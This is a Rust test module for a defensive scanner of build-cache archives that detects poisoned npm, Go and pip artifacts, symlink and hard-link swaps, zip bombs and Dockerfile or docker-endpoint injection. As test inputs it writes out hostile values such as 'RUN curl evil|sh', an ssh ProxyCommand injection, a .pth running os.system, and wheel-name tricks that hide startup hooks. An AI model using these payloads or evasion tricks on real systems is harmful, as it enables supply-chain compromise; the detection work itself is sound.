        let plain_at = put(&tgz(&[("package/package.json", br#"{"name":"fine"}"#)]));
        let packument_at = put(br#"{"scripts":{"postinstall":"x"}}"#);
        let big = tgz(&[
            ("package/a.bin", &[9u8; 40_000]),
            ("package/package.json", b"{}"),
        ]);
        let cut_at = put(&big[..big.len() / 2]);
        let linked_at = {
            let other = put(b"placeholder");
            std::fs::remove_file(root.join(&other)).unwrap();
            std::fs::hard_link(root.join(&hooked_at), root.join(&other)).unwrap();
            other
        };
        let archive = dir.path().join("m.tar");
        let status = std::process::Command::new("tar")
            .arg("-cf")
            .arg(&archive)
            .arg("-C")
            .arg(&root)
            .arg(".")
            .status()
            .unwrap();
        assert!(status.success());
        let scan = scan(&archive, &[]).unwrap();
        let postinstall = NpmTarball {
            manifests: vec![(
                "package/package.json".to_owned(),
                vec!["postinstall".to_owned()],
            )],
            unread: None,
        };
        assert_eq!(scan.tarballs.get(hooked_at.as_bytes()), Some(&postinstall));
        assert_eq!(scan.tarballs.get(linked_at.as_bytes()), Some(&postinstall));
        assert_eq!(scan.tarballs.get(raw_at.as_bytes()), Some(&postinstall));
        let zstd = &scan.tarballs[zstd_at.as_bytes()];
        assert!(zstd.manifests.is_empty());
        assert!(zstd.unread.as_deref().unwrap().contains("zstd"));
        let cut = &scan.tarballs[cut_at.as_bytes()];
        assert!(cut.manifests.is_empty());
        assert!(
            cut.unread
                .as_deref()
                .unwrap()
                .contains("not read to its end")
        );
        assert!(!scan.tarballs.contains_key(plain_at.as_bytes()));
        assert!(!scan.tarballs.contains_key(packument_at.as_bytes()));
        assert_eq!(scan.tarballs.len(), 5, "{:#?}", scan.tarballs);
        let mut unchecked: Vec<&[u8]> = scan.unchecked.iter().map(|(p, _)| p.as_slice()).collect();
        unchecked.sort();
        let mut expected = vec![cut_at.as_bytes(), zstd_at.as_bytes()];
        expected.sort();
        assert_eq!(unchecked, expected);
        // Only the hard link holds other bytes than its address names.
        let bad: Vec<&[u8]> = scan.mismatches.iter().map(|m| m.path.as_slice()).collect();
        assert_eq!(bad, vec![linked_at.as_bytes()]);

        // Against a snapshot that already held them unchanged, the blobs are not read again;
        // one that snapshot lacks is.
        let known: Vec<FileEntry> = scan
            .files
            .iter()
            .filter(|f| f.path != hooked_at.as_bytes())
            .cloned()
            .collect();
        let again = super::scan(&archive, &known).unwrap();
        let read: Vec<&[u8]> = again.tarballs.keys().map(Vec::as_slice).collect();
        assert_eq!(read, vec![hooked_at.as_bytes()]);
        assert!(again.unchecked.is_empty(), "{:?}", again.unchecked);
        assert_eq!(again.files, scan.files);
    }
}

#[cfg(test)]
mod link_tests {
    use super::*;

    /// A Go module zip, npm blob, wheel or crate replaced by a symbolic link to other bytes in
    /// the mount (the tools follow it; the walk does not) is a mismatch, not a file skipped.
    #[test]
    fn symbolic_links_where_checked_files_belong_are_mismatches() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("m");
        let at = |rel: &str| {
            let path = root.join(rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            path
        };
        std::fs::write(
            at("evil.zip"),
            zip::stored_zip(&[("m@v1.0.0/x.go", b"evil")]),
        )
        .unwrap();
        std::fs::write(at("cache/download/m/@v/v1.0.0.ziphash"), b"h1:original=\n").unwrap();
        std::os::unix::fs::symlink("../../../../evil.zip", at("cache/download/m/@v/v1.0.0.zip"))
            .unwrap();
        let hex = hex::encode(Sha512::digest(b"real"));
        let npm = format!(
            "_cacache/content-v2/sha512/{}/{}/{}",
            &hex[..2],
            &hex[2..4],
            &hex[4..]
        );
        std::os::unix::fs::symlink("/tmp/evil", at(&npm)).unwrap();
        std::os::unix::fs::symlink("/tmp/evil", at("wheels/p-1-py3-none-any.whl")).unwrap();
        std::os::unix::fs::symlink("/tmp/a.zip", at("plain/not-a-module.zip")).unwrap();
        let archive = dir.path().join("m.tar");
        let status = std::process::Command::new("tar")
            .arg("-cf")
            .arg(&archive)
            .arg("-C")
            .arg(&root)
            .arg(".")
            .status()
            .unwrap();
        assert!(status.success());
        let scan = scan(&archive, &[]).unwrap();
        let bad: Vec<(Rule, String)> = scan
            .mismatches
            .iter()
            .map(|m| (m.rule, String::from_utf8_lossy(&m.path).into_owned()))
            .collect();
        assert_eq!(
            bad,
            vec![
                (Rule::NpmContent, npm),
                (Rule::GoZiphash, "cache/download/m/@v/v1.0.0.zip".to_owned()),
                (Rule::WheelRecord, "wheels/p-1-py3-none-any.whl".to_owned()),
            ],
            "{:#?}",
            scan.mismatches
        );
    }

    /// A poisoned npm blob or wheel archived as a hard link to other bytes (tar stores the
    /// second name of an inode as a link) is checked by its own name: still a mismatch.
    #[test]
    fn hard_links_get_the_content_checks_of_their_name() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("m");
        let hex = hex::encode(Sha512::digest(b"the real tarball"));
        let address = format!(
            "_cacache/content-v2/sha512/{}/{}/{}",
            &hex[..2],
            &hex[2..4],
            &hex[4..]
        );
        std::fs::create_dir_all(root.join(&address).parent().unwrap()).unwrap();
        std::fs::write(root.join("evil"), b"evil tarball").unwrap();
        std::fs::hard_link(root.join("evil"), root.join(&address)).unwrap();
        let whl = zip::stored_zip(&[("p/__init__.py", b"evil"), ("p-1.dist-info/RECORD", b"")]);
        std::fs::create_dir_all(root.join("wheels")).unwrap();
        std::fs::write(root.join("other.bin"), &whl).unwrap();
        std::fs::hard_link(
            root.join("other.bin"),
            root.join("wheels/p-1-py3-none-any.whl"),
        )
        .unwrap();
        let archive = dir.path().join("m.tar");
        // The plain names first: the checked names are archived as links to them.
        let status = std::process::Command::new("tar")
            .arg("-cf")
            .arg(&archive)
            .arg("-C")
            .arg(&root)
            .args(["evil", "other.bin", "_cacache", "wheels"])
            .status()
            .unwrap();
        assert!(status.success());
        let scan = scan(&archive, &[]).unwrap();
        let bad: Vec<(Rule, String)> = scan
            .mismatches
            .iter()
            .map(|m| (m.rule, String::from_utf8_lossy(&m.path).into_owned()))
            .collect();
        assert!(
            bad.contains(&(Rule::NpmContent, address.clone())),
            "{bad:?} {:?}",
            scan.unchecked
        );
        assert!(
            bad.contains(&(Rule::WheelRecord, "wheels/p-1-py3-none-any.whl".to_owned())),
            "{bad:?} {:?}",
            scan.unchecked
        );
        let linked = scan
            .files
            .iter()
            .find(|f| f.path == address.as_bytes())
            .unwrap();
        assert_eq!(
            linked.sha256,
            <[u8; 32]>::from(Sha256::digest(b"evil tarball"))
        );
    }
}

#[cfg(test)]
mod injection_tests {
    use super::*;

    /// A recorded mount id, `from` or base image that would end the mount option or the
    /// Dockerfile line, or name a variable BuildKit would expand into another cache's id, is
    /// refused before any build runs.
    #[tokio::test]
    async fn hostile_names_never_reach_the_dockerfile() {
        let evil_from = MountUse {
            id: "pip".into(),
            from: Some("x\nRUN curl evil|sh".into()),
            ..MountUse::default()
        };
        let var_from = MountUse {
            id: "pip".into(),
            from: Some("$img".into()),
            ..MountUse::default()
        };
        for (mount_id, base, uses) in [
            ("pip,target=/etc", "busybox", None),
            ("pip\nRUN evil", "busybox", None),
            ("pip echo planted; true", "busybox", None),
            ("pip\\", "busybox", None),
            ("pip", "busybox\nRUN evil", None),
            ("${CACHEWARDEN_NONCE}", "busybox", None),
            ("pip$x", "busybox", None),
            ("pip", "$base", None),
            ("pip", "busybox", Some(&var_from)),
            ("pip", "busybox", Some(&evil_from)),
        ] {
            let helper = HelperBuild {
                docker: "/nonexistent/docker",
                endpoint: "unix:///nonexistent",
                base,
                mount_id,
                uses,
            };
            let err = copy_out(&helper).await.unwrap_err();
            assert!(
                err.to_string().contains("cannot be named in a Dockerfile"),
                "{err}"
            );
        }
    }

    /// A recorded endpoint the `docker` CLI would reach by running a program (`ssh://`, whose
    /// host can be an `ssh` option) is refused before the CLI runs.
    #[tokio::test]
    async fn recorded_endpoints_of_other_schemes_never_reach_the_cli() {
        let marker = tempfile::tempdir().unwrap();
        let planted = marker.path().join("ran");
        // A `docker` that would record being run.
        let docker = marker.path().join("docker");
        std::fs::write(&docker, format!("#!/bin/sh\ntouch {}\n", planted.display())).unwrap();
        std::fs::set_permissions(&docker, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        for endpoint in [
            "ssh://-oProxyCommand=touch${IFS}/tmp/cw-pwned@host",
            "npipe:////./pipe/docker",
            "fd://3",
        ] {
            let helper = HelperBuild {
                docker: docker.to_str().unwrap(),
                endpoint,
                base: "busybox",
                mount_id: "pip",
                uses: None,
            };
            let err = copy_out(&helper).await.unwrap_err();
            assert!(err.to_string().contains("endpoint"), "{err}");
        }
        assert!(!planted.exists(), "the docker CLI ran");
    }
}

#[cfg(test)]
mod wheel_tests {
    use base64::Engine as _;

    use super::*;

    /// A wheel with this RECORD-consistent content: every member listed with its hash.
    fn wheel(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut record = String::new();
        for (name, data) in files {
            record.push_str(&format!(
                "{name},sha256={},{}\n",
                base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(data)),
                data.len()
            ));
        }
        record.push_str("p-1.0.dist-info/RECORD,,\n");
        let mut all: Vec<(&str, &[u8])> = files.to_vec();
        all.push(("p-1.0.dist-info/RECORD", record.as_bytes()));
        zip::stored_zip(&all)
    }

    /// Each wheel the scan read: its path, the start-up hooks it holds, and whether it was
    /// left unread.
    fn wheels_found(scan: &Scan) -> Vec<(String, Vec<String>, bool)> {
        scan.wheels
            .iter()
            .map(|(p, w)| {
                (
                    String::from_utf8_lossy(p).into_owned(),
                    w.hooks.clone(),
                    w.unread.is_some(),
                )
            })
            .collect()
    }

    /// Wheels carrying a top-level `.pth`, a `sitecustomize.py` under `*.data/purelib/`, or a
    /// hostile member name are recorded with those members (and no RECORD mismatch); a wheel
    /// with only nested `.pth` files is not; one that is no zip is recorded as unread and
    /// unchecked; against a snapshot that held them unchanged, none is recorded.
    #[test]
    fn wheels_installing_startup_hooks_are_recorded() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("m");
        let put = |rel: &str, bytes: &[u8]| {
            let path = root.join(rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, bytes).unwrap();
        };
        put(
            "wheels/a/evil-1.0-py3-none-any.whl",
            &wheel(&[
                ("p/__init__.py", b""),
                ("evil.pth", b"import os; os.system('id')\n"),
            ]),
        );
        put(
            "wheels/b/data-1.0-py3-none-any.whl",
            &wheel(&[
                ("p/__init__.py", b""),
                ("p-1.0.data/purelib/sitecustomize.py", b"import os\n"),
            ]),
        );
        put(
            "wheels/c/esc-1.0-py3-none-any.whl",
            &wheel(&[("x\u{1b}[2J.pth", b"import os\n")]),
        );
        put(
            "wheels/d/plain-1.0-py3-none-any.whl",
            &wheel(&[("p/__init__.py", b""), ("p/nested.pth", b"p\n")]),
        );
        put(
            "wheels/e/cut-1.0-py3-none-any.whl",
            b"PK\x03\x04 not a whole zip",
        );
        let archive = dir.path().join("m.tar");
        let status = std::process::Command::new("tar")
            .arg("-cf")
            .arg(&archive)
            .arg("-C")
            .arg(&root)
            .arg(".")
            .status()
            .unwrap();
        assert!(status.success());
        let scan = scan(&archive, &[]).unwrap();
        assert!(scan.mismatches.is_empty(), "{:#?}", scan.mismatches);
        let got = wheels_found(&scan);
        assert_eq!(
            got,
            vec![
                (
                    "wheels/a/evil-1.0-py3-none-any.whl".to_owned(),
                    vec!["evil.pth".to_owned()],
                    false
                ),
                (
                    "wheels/b/data-1.0-py3-none-any.whl".to_owned(),
                    vec!["p-1.0.data/purelib/sitecustomize.py".to_owned()],
                    false
                ),
                (
                    "wheels/c/esc-1.0-py3-none-any.whl".to_owned(),
                    vec!["x\u{1b}[2J.pth".to_owned()],
                    false
                ),
                ("wheels/e/cut-1.0-py3-none-any.whl".to_owned(), vec![], true),
            ]
        );
        let unchecked: Vec<&[u8]> = scan.unchecked.iter().map(|(p, _)| p.as_slice()).collect();
        assert_eq!(unchecked, vec![&b"wheels/e/cut-1.0-py3-none-any.whl"[..]]);

        // Unchanged since the snapshot given: checked against RECORD, not recorded again.
        let again = super::scan(&archive, &scan.files).unwrap();
        assert!(again.wheels.is_empty(), "{:#?}", again.wheels);
        assert_eq!(again.files, scan.files);
    }

    /// Wheels whose RECORD lists every member as pip sees it, each hiding a hook pip installs
    /// into site-packages (a `..` name, a bare `.data` directory, the `data` scheme, a name cut
    /// at NUL), are each recorded with that member and raise no RECORD mismatch.
    #[test]
    fn wheels_hiding_hooks_from_a_naive_reading_are_recorded() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("m");
        std::fs::create_dir_all(&root).unwrap();
        // (name in the zip, name pip reads)
        let hidden = [
            ("a/../evil1.pth", "a/../evil1.pth"),
            (".data/purelib/evil2.pth", ".data/purelib/evil2.pth"),
            (
                "p-1.0.data/data/lib/python3.11/site-packages/evil3.pth",
                "p-1.0.data/data/lib/python3.11/site-packages/evil3.pth",
            ),
            ("evil4.pth\0.txt", "evil4.pth"),
        ];
        for (i, (zip_name, pip_name)) in hidden.iter().enumerate() {
            let body = b"import os\n";
            let record = format!(
                "p/__init__.py,sha256={},0\n{pip_name},sha256={},{}\np-1.0.dist-info/RECORD,,\n",
                base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(b"")),
                base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(body)),
                body.len()
            );
            let whl = zip::stored_zip(&[
                ("p/__init__.py", b""),
                (zip_name, body),
                ("p-1.0.dist-info/RECORD", record.as_bytes()),
            ]);
            std::fs::write(root.join(format!("w{i}-1.0-py3-none-any.whl")), whl).unwrap();
        }
        let archive = dir.path().join("m.tar");
        let status = std::process::Command::new("tar")
            .arg("-cf")
            .arg(&archive)
            .arg("-C")
            .arg(&root)
            .arg(".")
            .status()
            .unwrap();
        assert!(status.success());
        let scan = scan(&archive, &[]).unwrap();
        assert!(scan.mismatches.is_empty(), "{:#?}", scan.mismatches);
        let got: Vec<Vec<String>> = scan.wheels.values().map(|w| w.hooks.clone()).collect();
        let want: Vec<Vec<String>> = hidden.iter().map(|(_, p)| vec![p.to_string()]).collect();
        assert_eq!(got, want);
    }

    /// Wheels pip downloaded sit in its HTTP cache as response bodies: a pip 23.3 `.body` and
    /// an older pip's serialized response (msgpack `bin` body) holding a wheel with a `.pth`
    /// are recorded, a tampered one is a RECORD mismatch, and a body that is no zip is ignored.
    #[test]
    fn wheels_in_pips_http_cache_are_checked() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("m");
        let put = |rel: &str, bytes: &[u8]| {
            let path = root.join(rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, bytes).unwrap();
        };
        let hooked = wheel(&[("p/__init__.py", b""), ("evil.pth", b"import os\n")]);
        put("http-v2/a/b/c/d/e/0123abcd.body", &hooked);
        put("http-v2/a/b/c/d/e/0123abcd", b"metadata");
        put("http-v2/1/2/3/4/5/77aa.body", br#"{"json": "index page"}"#);
        let mut legacy = b"cc=4,\x81\xa8response\x83\xa4body\xc6".to_vec();
        legacy.extend_from_slice(&(hooked.len() as u32).to_be_bytes());
        legacy.extend_from_slice(&hooked);
        legacy.extend_from_slice(b"\xa7headers\x80\xa6status\xcc\xc8");
        put("http/f/f/0/0/1/ff001ff001ff001ff001", &legacy);
        let tampered = zip::stored_zip(&[
            ("p/__init__.py", b"evil"),
            ("p-1.0.dist-info/RECORD", b"p/__init__.py,sha256=AAAA,0\n"),
        ]);
        put("http-v2/9/9/9/9/9/99.body", &tampered);
        let archive = dir.path().join("m.tar");
        let status = std::process::Command::new("tar")
            .arg("-cf")
            .arg(&archive)
            .arg("-C")
            .arg(&root)
            .arg(".")
            .status()
            .unwrap();
        assert!(status.success());
        let scan = scan(&archive, &[]).unwrap();
        let hooked: Vec<(String, Vec<String>)> = scan
            .wheels
            .iter()
            .map(|(p, w)| (String::from_utf8_lossy(p).into_owned(), w.hooks.clone()))
            .collect();
        assert_eq!(
            hooked,
            vec![
                (
                    "http-v2/a/b/c/d/e/0123abcd.body".to_owned(),
                    vec!["evil.pth".to_owned()]
                ),
                (
                    "http/f/f/0/0/1/ff001ff001ff001ff001".to_owned(),
                    vec!["evil.pth".to_owned()]
                ),
            ]
        );
        let bad: Vec<(Rule, String)> = scan
            .mismatches
            .iter()
            .map(|m| (m.rule, String::from_utf8_lossy(&m.path).into_owned()))
            .collect();
        assert_eq!(
            bad,
            vec![(Rule::WheelRecord, "http-v2/9/9/9/9/9/99.body".to_owned())]
        );
        assert!(scan.unchecked.is_empty(), "{:?}", scan.unchecked);
        assert!(checks::pip_http_file(
            b"root/.cache/pip/http-v2/a/b/c/d/e/00.body"
        ));
        assert!(!checks::pip_http_file(b"http-v2/a/b/c/d/e/00"));
        assert!(!checks::pip_http_file(b"http-v2/a/bb/c/d/e/00.body"));
    }

    /// pip HTTP cache files hiding a wheel from a reader that looks only at their start: a
    /// `.body` with bytes in front of the zip (`zipfile` skips them), an older pip's response
    /// whose msgpack puts the body far past its start, are read for their hooks; one whose
    /// body cannot be placed but which holds a zip end record is unread; a symbolically
    /// linked `.body` (pip follows it) is a mismatch.
    #[test]
    fn wheels_hidden_in_pips_http_cache_are_found() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("m");
        let put = |rel: &str, bytes: &[u8]| {
            let path = root.join(rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, bytes).unwrap();
        };
        let hooked = wheel(&[("p/__init__.py", b""), ("evil.pth", b"import os\n")]);
        let mut junk = b"junk in front of the zip".repeat(10);
        junk.extend_from_slice(&hooked);
        put("http-v2/a/b/c/d/e/01.body", &junk);
        // {"vary": {}, "response": {"headers": {"x": <200 bytes>}, "status": 200, "body": ...}}
        let mut legacy =
            b"cc=4,\x82\xa4vary\x80\xa8response\x83\xa7headers\x81\xa1x\xd9\xc8".to_vec();
        legacy.extend_from_slice(&[b'h'; 200]);
        legacy.extend_from_slice(b"\xa6status\xcc\xc8\xa4body\xc6");
        legacy.extend_from_slice(&(hooked.len() as u32).to_be_bytes());
        legacy.extend_from_slice(&hooked);
        put("http/f/f/0/0/1/ff001ff001ff001ff001", &legacy);
        // Cut short: the document does not parse, and the zip is not placed.
        let mut broken = legacy.clone();
        broken[5] = 0x83;
        put("http/f/f/0/0/2/ff002ff002ff002ff002", &broken);
        // No zip at all in a file that does not parse: nothing to read.
        put("http/f/f/0/0/3/ff003ff003ff003ff003", b"cc=4,\xc1");
        std::fs::create_dir_all(root.join("http-v2/1/1/1/1/1")).unwrap();
        std::os::unix::fs::symlink("/tmp/evil.whl", root.join("http-v2/1/1/1/1/1/11.body"))
            .unwrap();
        let archive = dir.path().join("m.tar");
        let status = std::process::Command::new("tar")
            .arg("-cf")
            .arg(&archive)
            .arg("-C")
            .arg(&root)
            .arg(".")
            .status()
            .unwrap();
        assert!(status.success());
        let scan = scan(&archive, &[]).unwrap();
        let got = wheels_found(&scan);
        assert_eq!(
            got,
            vec![
                (
                    "http-v2/a/b/c/d/e/01.body".to_owned(),
                    vec!["evil.pth".to_owned()],
                    false
                ),
                (
                    "http/f/f/0/0/1/ff001ff001ff001ff001".to_owned(),
                    vec!["evil.pth".to_owned()],
                    false
                ),
                (
                    "http/f/f/0/0/2/ff002ff002ff002ff002".to_owned(),
                    vec![],
                    true
                ),
            ]
        );
        let unchecked: Vec<String> = scan
            .unchecked
            .iter()
            .map(|(p, _)| String::from_utf8_lossy(p).into_owned())
            .collect();
        assert_eq!(unchecked, vec!["http/f/f/0/0/2/ff002ff002ff002ff002"]);
        let bad: Vec<(Rule, String)> = scan
            .mismatches
            .iter()
            .map(|m| (m.rule, String::from_utf8_lossy(&m.path).into_owned()))
            .collect();
        assert_eq!(
            bad,
            vec![(Rule::WheelRecord, "http-v2/1/1/1/1/1/11.body".to_owned())]
        );
    }

    /// A new wheel that is a zip bomb (entries sharing one member's bytes) is recorded unread
    /// and counted unchecked, never read for days nor passed as harmless.
    #[test]
    fn a_wheel_bomb_is_unread() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("m");
        std::fs::create_dir_all(&root).unwrap();
        let mut bomb = wheel(&[("p/__init__.py", b"")]);
        // Point the second directory entry (RECORD) at the first member's local header.
        let dir_at = bomb.len() - 22 - (46 + 13) - (46 + 22);
        let second = dir_at + 46 + 13;
        bomb[second + 42..second + 46].copy_from_slice(&0u32.to_le_bytes());
        std::fs::write(root.join("b-1.0-py3-none-any.whl"), &bomb).unwrap();
        let archive = dir.path().join("m.tar");
        let status = std::process::Command::new("tar")
            .arg("-cf")
            .arg(&archive)
            .arg("-C")
            .arg(&root)
            .arg(".")
            .status()
            .unwrap();
        assert!(status.success());
        let scan = scan(&archive, &[]).unwrap();
        let w = &scan.wheels[&b"b-1.0-py3-none-any.whl"[..]];
        assert!(w.unread.as_deref().unwrap().contains("overlap"), "{w:?}");
        assert_eq!(scan.unchecked.len(), 1);
    }

    /// A member that is a hook only under the name a Unicode Path field gives it (Python 3.12
    /// reads that one) is reported by its plain name and the name it is read as; a member that
    /// is no hook under any reading is not reported.
    #[test]
    fn a_hook_under_any_reading_of_its_name_is_reported() {
        let member = |pip_name: &str, unicode_name: Option<&str>| zip::Member {
            name: pip_name.to_owned(),
            pip_name: pip_name.to_owned(),
            unicode_name: unicode_name.map(str::to_owned),
            is_dir: false,
            sha256: [0; 32],
            content: None,
        };
        assert_eq!(
            wheel_member_hook(&member("plain.txt", Some("evil.pth"))).as_deref(),
            Some("plain.txt (read as evil.pth)")
        );
        assert_eq!(
            wheel_member_hook(&member("evil.pth", None)).as_deref(),
            Some("evil.pth")
        );
        assert_eq!(
            wheel_member_hook(&member("plain.txt", Some("p/x.pth"))),
            None
        );
    }
}
